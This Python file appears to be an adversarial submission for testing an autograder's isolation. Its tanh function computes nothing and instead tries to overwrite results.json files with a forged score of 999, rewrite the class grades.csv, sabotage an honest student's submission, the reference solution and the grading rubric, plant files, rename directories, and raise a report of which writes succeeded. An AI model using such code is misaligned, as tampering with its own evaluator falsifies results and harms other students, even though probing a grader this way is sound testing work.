_REPORT = []


def tanh(z):
    """Attack: overwrite grade files and other people's files: this student's results.json, an
    honest student's, the class grades.csv, another student's submission, the reference and the
    rubric. Raises a report of every write that worked."""
    import json
    import os

    if not _REPORT:
        _REPORT.append("probed")
        me = __STUDENT__
        forged = json.dumps({"score": 999, "tests": [], "extra_data": {"student": me, "functions": [], "score": 999}})
        targets = {
            f"{__OUT__}/{me}/results.json": forged,
            f"{__OUT__}/{me}/feedback.md": "# Score: 83 / 83\n",
            f"{__OUT__}/honest_reference/results.json": forged,
            f"{__OUT__}/grades.csv": "student,score\nhonest_reference,0\n",
            f"{__SUBS__}/honest_reference/ex03_activations.py": "raise SystemExit\n",
            f"{__SOLUTIONS__}/ex03_activations.py": "raise SystemExit\n",
            f"{__PROJECT__}/grader/rubric.toml": "[timeouts]\n",
            f"{__PROJECT__}/planted.py": "x = 1\n",
            "/run/lock/planted.py": "x = 1\n",
        }
        for path, text in targets.items():
            try:
                with open(path, "w") as handle:
                    handle.write(text)
                _REPORT.append("wrote " + path)
            except OSError:
                pass
        for path in (f"{__OUT__}/{me}", f"{__OUT__}/grades.csv", f"{__SUBS__}/honest_reference"):
            try:
                os.rename(path, path + ".moved")
                _REPORT.append("moved " + path)
            except OSError:
                pass
    raise RuntimeError("ATTACK-REPORT " + json.dumps(_REPORT[1:]))
